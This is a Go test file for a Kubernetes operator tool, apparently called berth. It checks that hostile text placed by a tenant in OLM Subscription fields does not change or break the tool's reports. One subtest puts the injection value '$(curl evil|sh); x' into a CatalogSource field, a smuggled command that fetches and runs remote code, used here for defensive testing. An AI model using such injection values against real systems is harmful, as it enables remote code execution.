package reports_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/operator-framework/api/pkg/operators/v1alpha1"
	"github.com/operator-framework/operator-registry/alpha/declcfg"
	"github.com/stretchr/testify/require"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"

	"github.com/berth-csi/berth/lab/cluster"
	"github.com/berth-csi/berth/test/catalogs/operators"
	"github.com/berth-csi/berth/test/tenant"
)

// TestHostileTenant: an administrator asks for a prediction about a Subscription with a tenant's hostile texts.
func TestHostileTenant(t *testing.T) {
	c := cluster.Shared(t, cluster.Options{OLM: true})
	berth := program(t)
	catalog := operators.Entries(t, declcfg.ChannelEntry{Name: "buoy.v1.0.0"})
	somebody := tenant.New(t, c)
	text := hostile["all at once"]
	subscribe := func(project, text string) {
		t.Helper()
		err := somebody.Client.Create(t.Context(), &v1alpha1.Subscription{
			ObjectMeta: metav1.ObjectMeta{Namespace: somebody.Project(t, project), Name: "buoy"},
			Spec: &v1alpha1.SubscriptionSpec{Package: "buoy", Channel: "stable" + text, CatalogSource: "sea" + text,
				CatalogSourceNamespace: "sea" + text, StartingCSV: "buoy" + text, InstallPlanApproval: v1alpha1.ApprovalManual},
		})
		require.NoError(t, err)
	}
	subscribe("reports-hostile-0", text)
	subscribe("reports-harmless", harmless(text))
	t.Run("a Subscription that nobody decodes", func(t *testing.T) {
		o := &unstructured.Unstructured{Object: map[string]any{"spec": map[string]any{
			"name": "buoy", "source": "sea", "sourceNamespace": "", "config": map[string]any{"resources": map[string]any{"limits": map[string]any{"cpu": "1e1.5"}}},
		}}}
		o.SetGroupVersionKind(v1alpha1.SchemeGroupVersion.WithKind(v1alpha1.SubscriptionKind))
		o.SetNamespace(somebody.Project(t, "reports-broken"))
		o.SetName("broken")
		require.NoError(t, somebody.Client.Create(t.Context(), o))
		for _, args := range [][]string{{"doctor"}, {"catalog", "plan", catalog}, {"switch", "plan", "buoy", "--to", "sea", "-n", "reports-harmless"}, {"move", "plan", "buoy", "-n", "reports-harmless"}, {"adopt", "plan", "ebs"}} {
			out, stderr, _ := run(t, berth, t.TempDir(), append(args, "--kubeconfig", c.Kubeconfig())...)
			if strings.Contains(out+stderr, "quantities must match") {
				t.Errorf("berth %s ends because of a tenant's Subscription:\n%s%s", strings.Join(args, " "), out, stderr)
			}
		}
	})
	for name, args := range map[string][]string{
		"catalog plan":         {"catalog", "plan", catalog},
		"catalog plan as JSON": {"catalog", "plan", catalog, "-o", "json"},
		"switch plan":          {"switch", "plan", "buoy", "--to", "sea"},
		"switch plan as JSON":  {"switch", "plan", "buoy", "--to", "sea", "-o", "json"},
		"switch apply":         {"switch", "apply", "buoy", "--to", "sea", "--dry-run"},
	} {
		t.Run(name, func(t *testing.T) {
			in := func(project string) (string, string, int) {
				return run(t, berth, t.TempDir(), append(args, "--kubeconfig", c.Kubeconfig(), "--namespace", project)...)
			}
			wantOut, wantErr, wantCode := in("reports-harmless")
			out, stderr, code := in("reports-hostile-0")
			mustBeVisible(t, "standard output", out)
			mustBeVisible(t, "standard error", stderr)
			if diff := cmp.Diff(linesOf(t, wantOut+wantErr), linesOf(t, out+stderr)); diff != "" || code != wantCode {
				t.Errorf("exit code %d, want %d; lines (-harmless +hostile):\n%s\n%s%s", code, wantCode, diff, out, stderr)
			}
		})
	}
	// A tenant subscribes to the operator of a driver that nobody has installed: that is no fault of the cluster.
	t.Run("doctor", func(t *testing.T) {
		stranger := &v1alpha1.Subscription{
			ObjectMeta: metav1.ObjectMeta{Namespace: somebody.Project(t, "reports-doctor"), Name: "m"},
			Spec:       &v1alpha1.SubscriptionSpec{Package: "manila-csi-driver-operator", Channel: "stable", CatalogSource: "$(curl evil|sh); x", CatalogSourceNamespace: "openshift-marketplace"},
		}
		require.NoError(t, somebody.Client.Create(t.Context(), stranger))
		out, stderr, code := run(t, berth, t.TempDir(), "doctor", "--kubeconfig", c.Kubeconfig())
		if code != 0 || strings.Contains(out, "manila") {
			t.Errorf("exit code %d, want 0 and nothing of the tenant's driver:\n%s%s", code, out, stderr)
		}
		out, _, code = run(t, berth, t.TempDir(), "doctor", "manila", "--kubeconfig", c.Kubeconfig())
		if code != 1 || !strings.Contains(out, "no Subscription from which OLM would install it") {
			t.Errorf("exit code %d, want 1 and that no Subscription counts, when an administrator names the driver:\n%s", code, out)
		}
	})
}
